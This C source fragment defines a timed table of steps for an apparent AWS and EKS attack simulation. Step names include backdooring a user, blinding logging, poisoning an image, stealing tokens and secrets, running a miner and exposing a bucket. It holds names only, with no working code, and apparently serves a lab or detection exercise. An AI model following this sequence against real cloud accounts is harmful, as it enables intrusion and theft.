const struct attack_step attack_steps[] = {
	{ MIN(0, 0), recon },
	{ MIN(3, 0), key_for_other },
	{ MIN(3, 40), backdoor_user },
	{ MIN(6, 10), blind_logging },
	{ MIN(8, 5), open_sg },
	{ MIN(9, 30), poison_image },
	{ MIN(12, 40), into_eks },
	{ MIN(13, 30), cluster_discovery },
	{ MIN(14, 2), anonymous_admin },
	{ MIN(15, 11), anonymous_secrets },
	{ MIN(17, 3), powerful_roles },
	{ MIN(19, 12), mint_token },
	{ MIN(21, 40), host_pods },
	{ MIN(23, 18), aws_auth_masters },
	{ MIN(25, 2), ssrf },
	{ MIN(28, 45), token_theft },
	{ MIN(31, 7), guardduty_lab },
	{ MIN(37, 20), miner },
	{ MIN(42, 30), ecs_exec },
	{ MIN(46, 12), public_bucket },
	{ MIN(50, 41), console_no_mfa },
};
const int nattack_steps = (int)NELEM(attack_steps);
